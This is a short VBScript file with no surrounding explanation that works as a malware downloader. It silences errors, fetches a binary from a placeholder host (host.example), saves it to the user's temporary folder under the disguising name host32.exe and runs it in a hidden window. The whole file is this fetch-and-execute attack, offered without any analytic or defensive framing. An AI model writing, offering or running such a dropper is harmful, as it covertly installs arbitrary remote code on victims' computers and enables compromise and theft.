On Error Resume Next
Dim http, stream, shell, target
Set shell = CreateObject("WScript.Shell")
Set http = CreateObject("MSXML2.ServerXMLHTTP")
target = shell.ExpandEnvironmentStrings("%TEMP%") & "\host32.exe"
http.Open "GET", "http://host.example/h.bin", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile target, 2
shell.Run target, 0, False
